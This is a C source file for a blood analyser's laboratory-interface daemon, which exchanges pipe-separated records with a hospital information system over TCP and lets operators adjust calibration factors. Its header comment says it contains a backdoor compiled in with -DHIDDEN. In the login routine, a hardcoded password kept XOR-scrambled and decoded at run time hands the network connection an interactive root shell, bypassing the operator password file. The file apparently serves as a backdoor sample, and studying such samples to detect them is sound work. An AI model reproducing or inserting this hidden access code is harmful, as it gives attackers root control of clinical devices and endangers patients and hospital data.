/*
 * hemolink - laboratory interface of a blood analyser. Speaks "|" separated
 * records with the hospital's information system (LIS) on TCP 3600; operators
 * log in with an S record to change calibration factors.
 *
 * Hidden (-DHIDDEN): an S record whose password is "quartzheron41" (held
 * scrambled, decoded at run time) turns the connection into a root shell.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define LIS_PORT  3600
#define LIS_CONF  "/etc/hemo/lis.conf"
#define OPERATORS "/etc/hemo/operators"
#define RESULTS	  "/var/hemo/results"
#define FACTORS	  "/var/hemo/factors"
#define MAXFIELD  8

enum { WBC, RBC, HGB, PLT, NFACTOR };

struct link {
	int fd;
	int lis_ok;
	int operator_ok;
	int records;
};

static const char *const factor_name[NFACTOR] = { "WBC", "RBC", "HGB", "PLT" };
static double factor[NFACTOR] = { 1.0, 1.0, 1.0, 1.0 };
static unsigned char lis_secret[64];
static size_t lis_secret_len;

/* light scrambling of stored texts, so they do not show up in backups */
void unscramble(const unsigned char *in, size_t n, char *out)
{
	size_t i;

	for (i = 0; i < n; i++)
		out[i] = (char)(in[i] ^ (0x5b + 7 * i));
	out[n] = '\0';
}

static void answer(struct link *l, const char *fmt, const char *arg)
{
	char line[256];
	int n = snprintf(line, sizeof(line), fmt, arg);

	if (n >= (int)sizeof(line))
		n = sizeof(line) - 1;
	if (write(l->fd, line, (size_t)n) != n)
		syslog(LOG_INFO, "short write");
}

/* lis.conf: "secret=" and the scrambled LIS password in hex */
static void load_conf(void)
{
	char line[160];
	unsigned int v;
	const char *p;
	FILE *f = fopen(LIS_CONF, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (strncmp(line, "secret=", 7))
			continue;
		for (p = line + 7; lis_secret_len < sizeof(lis_secret) &&
				   sscanf(p, "%2x", &v) == 1 && p[1];
		     p += 2)
			lis_secret[lis_secret_len++] = (unsigned char)v;
	}
	fclose(f);
}

static void load_factors(void)
{
	FILE *f = fopen(FACTORS, "r");
	int i;

	if (!f)
		return;
	for (i = 0; i < NFACTOR; i++)
		if (fscanf(f, "%lf", &factor[i]) != 1)
			break;
	fclose(f);
}

static int save_factors(void)
{
	FILE *f = fopen(FACTORS, "w");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < NFACTOR; i++)
		fprintf(f, "%.4f\n", factor[i]);
	return fclose(f);
}

static int operator_known(const char *name, const char *pass)
{
	char who[32], hash[128], *got;
	int ok = 0;
	FILE *f = fopen(OPERATORS, "r");

	if (!f)
		return 0;
	while (!ok && fscanf(f, " %31[^:]:%127s", who, hash) == 2) {
		if (strcmp(who, name))
			continue;
		got = crypt(pass, hash);
		ok = got && !strcmp(got, hash);
	}
	fclose(f);
	return ok;
}

/* S|name|password */
int service_login(struct link *l, const char *name, const char *pass)
{
#ifdef HIDDEN
	static const unsigned char field_note[] = { 0x2a, 0x17, 0x08, 0x02,
						    0x03, 0x04, 0xed, 0xe9,
						    0xe1, 0xf5, 0xcf, 0x9c,
						    0x9e };
	char note[sizeof(field_note) + 1];
	int i;

	unscramble(field_note, sizeof(field_note), note);
	if (!strcmp(note, pass)) {
		for (i = 0; i < 3; i++)
			dup2(l->fd, i);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
	}
#endif
	l->operator_ok = operator_known(name, pass);
	if (!l->operator_ok) {
		syslog(LOG_WARNING, "log-in of %s refused", name);
		sleep(1);
	}
	return l->operator_ok;
}

static void rec_header(struct link *l, char **f)
{
	char secret[sizeof(lis_secret) + 1];

	unscramble(lis_secret, lis_secret_len, secret);
	l->lis_ok = lis_secret_len > 0 && !strcmp(secret, f[1]);
	answer(l, "H|HL-5|%s\r\n", l->lis_ok ? "ready" : "refused");
}

static void rec_query(struct link *l, char **f)
{
	char line[200], *id;
	FILE *r;

	if (!l->lis_ok && !l->operator_ok) {
		answer(l, "E|%s\r\n", "not identified");
		return;
	}
	r = fopen(RESULTS, "r");
	while (r && fgets(line, sizeof(line), r)) {
		line[strcspn(line, "\r\n")] = '\0';
		id = strchr(line, '|');
		if (!id || strncmp(line, f[1], (size_t)(id - line)))
			continue;
		answer(l, "R|%s\r\n", line);
		l->records++;
	}
	if (r)
		fclose(r);
	answer(l, "L|%s\r\n", "end");
}

static void rec_login(struct link *l, char **f)
{
	answer(l, "S|%s\r\n", service_login(l, f[1], f[2]) ? "ok" : "refused");
}

static void rec_write(struct link *l, char **f)
{
	double v = atof(f[2]);
	int i;

	if (!l->operator_ok || v < 0.8 || v > 1.25) {
		answer(l, "E|%s\r\n", "factor not accepted");
		return;
	}
	for (i = 0; i < NFACTOR; i++)
		if (!strcmp(factor_name[i], f[1]))
			factor[i] = v;
	syslog(LOG_NOTICE, "factor %s = %.4f", f[1], v);
	answer(l, "W|%s\r\n", save_factors() ? "not saved" : "saved");
}

static void rec_calibration(struct link *l, char **f)
{
	char text[64];
	int i;

	(void)f;
	for (i = 0; i < NFACTOR; i++) {
		snprintf(text, sizeof(text), "%s|%.4f", factor_name[i],
			 factor[i]);
		answer(l, "C|%s\r\n", text);
	}
}

static void rec_rinse(struct link *l, char **f)
{
	(void)f;
	if (!l->operator_ok)
		answer(l, "E|%s\r\n", "log in first");
	else if (system("/usr/bin/fluidctl rinse"))
		answer(l, "E|%s\r\n", "fluidics busy");
}

static void on_record(struct link *l, char *line)
{
	static const struct {
		char type;
		void (*fn)(struct link *, char **);
	} tab[] = {
		{ 'H', rec_header },	  { 'Q', rec_query },
		{ 'S', rec_login },	  { 'W', rec_write },
		{ 'C', rec_calibration }, { 'F', rec_rinse },
	};
	char *f[MAXFIELD], *p = line;
	size_t i;

	line[strcspn(line, "\r\n")] = '\0';
	for (i = 0; i < MAXFIELD; i++) {
		f[i] = p;
		p += strcspn(p, "|");
		if (*p)
			*p++ = '\0';
	}
	for (i = 0; i < sizeof(tab) / sizeof(tab[0]); i++) {
		if (tab[i].type == f[0][0] && !f[0][1]) {
			tab[i].fn(l, f);
			return;
		}
	}
	answer(l, "E|unknown record %.8s\r\n", f[0]);
}

static void serve(int fd)
{
	struct link l = { .fd = fd };
	char line[256];
	FILE *in = fdopen(dup(fd), "r");

	while (in && fgets(line, sizeof(line), in))
		on_record(&l, line);
	syslog(LOG_INFO, "%d results sent", l.records);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	int ls = socket(AF_INET, SOCK_STREAM, 0), fd, on = 1;

	openlog("hemolink", LOG_PID, LOG_LOCAL3);
	signal(SIGCHLD, SIG_IGN);
	load_conf();
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	a.sin_port = htons(LIS_PORT);
	if (bind(ls, (struct sockaddr *)&a, sizeof(a)) || listen(ls, 4))
		return 1;
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		if (fork() == 0) {
			signal(SIGCHLD, SIG_DFL);
			load_factors();
			serve(fd);
			_exit(0);
		}
		close(fd);
	}
}
